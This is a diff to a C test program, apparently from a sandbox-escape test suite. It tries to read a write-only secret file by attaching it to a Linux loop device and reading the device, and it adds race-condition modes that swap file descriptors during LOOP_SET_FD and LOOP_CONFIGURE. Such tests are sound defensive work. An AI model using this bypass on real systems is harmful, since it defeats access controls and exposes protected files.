@@ -1,21 +1,80 @@
-/* loop_wo.c SECRET: read a file the table only lets the program write, through a loop
- * device (review 28).  The secret is opened O_WRONLY (what the table grants), attached to a
- * free loop device (LOOP_CTL_GET_FREE, LOOP_SET_FD -- which takes a descriptor not open for
- * reading: the device is then read-write, its reads the file's), and the device read: a
- * table that reads /dev/** has the file's contents.  ESCAPED when the secret was read;
- * BLOCKED with the failing step's errno otherwise.  Root (the loop devices).
+/* loop_wo.c SECRET [MODE [DECOY]]: read a file the table only lets the program write,
+ * through a loop device (review 28, known gap #44).  The secret is opened O_WRONLY (what the
+ * table grants), attached to a free loop device (LOOP_CTL_GET_FREE, then LOOP_SET_FD -- which
+ * takes a descriptor not open for reading: the device is then read-write, its reads the
+ * file's), and the device read: a table that reads /dev/** has the file's contents.
+ * MODE "set" (the default): LOOP_SET_FD.  "configure": LOOP_CONFIGURE, the descriptor in
+ * its struct loop_config (memory).  "race": LOOP_SET_FD of a number a second thread keeps
+ * turning between DECOY (a file the table reads and writes) and the secret (dup2), 400
+ * times.  "configrace": LOOP_CONFIGURE of a struct whose fd a second thread keeps turning
+ * between DECOY's descriptor and the secret's, 400 times.  ESCAPED when the secret was read;
+ * BLOCKED with the failing step's errno (the last one, and a count of each, when racing)
+ * otherwise.  Root (the loop devices).
  */
 #include "attack.h"
 
 #include <linux/loop.h>
+#include <pthread.h>
 #include <sys/ioctl.h>
 
+#define TRIES 400
+#define NUMBER 40 /* the descriptor number the racing thread turns */
+
+static int secret_fd, decoy_fd;
+static struct loop_config config;
+static volatile int stop;
+
+static void *turn_number(void *arg) {
+    (void)arg;
+    while (!stop) {
+        dup2(secret_fd, NUMBER);
+        dup2(decoy_fd, NUMBER);
+    }
+    return NULL;
+}
+
+static void *turn_struct(void *arg) {
+    (void)arg;
+    while (!stop) {
+        __atomic_store_n(&config.fd, (unsigned)secret_fd, __ATOMIC_RELAXED);
+        __atomic_store_n(&config.fd, (unsigned)decoy_fd, __ATOMIC_RELAXED);
+    }
+    return NULL;
+}
+
+/* attach by the mode's request; 0 or the errno */
+static int attach(int loop, const char *mode) {
+    int r;
+    if (!strcmp(mode, "set"))
+        r = ioctl(loop, LOOP_SET_FD, secret_fd);
+    else if (!strcmp(mode, "race"))
+        r = ioctl(loop, LOOP_SET_FD, NUMBER);
+    else {
+        if (!strcmp(mode, "configure"))
+            config.fd = (unsigned)secret_fd;
+        r = ioctl(loop, LOOP_CONFIGURE, &config);
+    }
+    return r < 0 ? errno : 0;
+}
+
 int main(int argc, char **argv) {
-    if (argc != 2)
-        blocked("usage: %s SECRET", argv[0]);
-    int fd = open(argv[1], O_WRONLY | O_CLOEXEC);
-    if (fd < 0)
+    if (argc < 2 || argc > 4)
+        blocked("usage: %s SECRET [MODE [DECOY]]", argv[0]);
+    const char *mode = argc > 2 ? argv[2] : "set";
+    int racing = !strcmp(mode, "race") || !strcmp(mode, "configrace");
+    secret_fd = open(argv[1], O_WRONLY | O_CLOEXEC);
+    if (secret_fd < 0)
         blocked("open %s O_WRONLY: %s", argv[1], ename(errno));
+    if (racing) {
+        if (argc != 4)
+            blocked("%s needs a DECOY", mode);
+        decoy_fd = open(argv[3], O_RDWR | O_CLOEXEC);
+        if (decoy_fd < 0)
+            blocked("open %s: %s", argv[3], ename(errno));
+        if (dup2(decoy_fd, NUMBER) < 0)
+            blocked("dup2: %s", ename(errno));
+        config.fd = (unsigned)decoy_fd;
+    }
     int ctl = open("/dev/loop-control", O_RDWR | O_CLOEXEC);
     if (ctl < 0)
         skipped("/dev/loop-control: %s", ename(errno));
@@ -27,16 +86,57 @@ int main(int argc, char **argv) {
     int loop = open(dev, O_RDWR | O_CLOEXEC);
     if (loop < 0)
         blocked("open %s: %s", dev, ename(errno));
-    if (ioctl(loop, LOOP_SET_FD, fd) < 0) {
-        if (errno == EBUSY)
-            skipped("LOOP_SET_FD %s: %s", dev, ename(errno));
-        blocked("LOOP_SET_FD %s: %s", dev, ename(errno));
+    const char *request = strcmp(mode, "set") && strcmp(mode, "race") ? "LOOP_CONFIGURE"
+                                                                       : "LOOP_SET_FD";
+    if (!racing) {
+        int err = attach(loop, mode);
+        if (err == EBUSY)
+            skipped("%s %s: %s", request, dev, ename(err));
+        if (err)
+            blocked("%s %s: %s", request, dev, ename(err));
+        int reader = open(dev, O_RDONLY | O_CLOEXEC);
+        int secret = reader >= 0 && is_secret_fd(reader);
+        int saved = errno;
+        ioctl(loop, LOOP_CLR_FD, 0);
+        if (secret)
+            escaped("read the secret through %s", dev);
+        blocked("read %s: %s", dev, reader < 0 ? ename(saved) : "not the secret");
     }
-    int reader = open(dev, O_RDONLY | O_CLOEXEC);
-    int secret = reader >= 0 && is_secret_fd(reader);
-    int saved = errno;
-    ioctl(loop, LOOP_CLR_FD, 0);
-    if (secret)
-        escaped("read the secret through %s", dev);
-    blocked("read %s: %s", dev, reader < 0 ? ename(saved) : "not the secret");
+    pthread_t thread;
+    pthread_create(&thread, NULL, !strcmp(mode, "race") ? turn_number : turn_struct, NULL);
+    int attached = 0, secrets = 0, last = 0, refused = 0, busy = 0;
+    close(loop); /* (a device is cleared at its last close: one open per attach) */
+    for (int i = 0; i < TRIES && !secrets; i++) {
+        loop = open(dev, O_RDWR | O_CLOEXEC);
+        if (loop < 0)
+            blocked("open %s: %s", dev, ename(errno));
+        int err = attach(loop, mode);
+        if (err == EBUSY && ++busy < 400) {
+            close(loop); /* (the last clear not done yet) */
+            usleep(2000);
+            i--;
+            continue;
+        }
+        if (err) {
+            last = err;
+            refused++;
+            close(loop);
+            continue;
+        }
+        attached++;
+        int reader = open(dev, O_RDONLY | O_CLOEXEC);
+        if (reader >= 0) {
+            secrets += is_secret_fd(reader);
+            close(reader);
+        }
+        ioctl(loop, LOOP_CLR_FD, 0);
+        close(loop);
+    }
+    stop = 1;
+    pthread_join(thread, NULL);
+    if (secrets)
+        escaped("read the secret through %s (%s, a racing thread; %d attached, %d refused)",
+                dev, request, attached, refused);
+    blocked("%s %s: %s (%d attached, none the secret; %d refused)", request, dev,
+            last ? ename(last) : "-", attached, refused);
 }
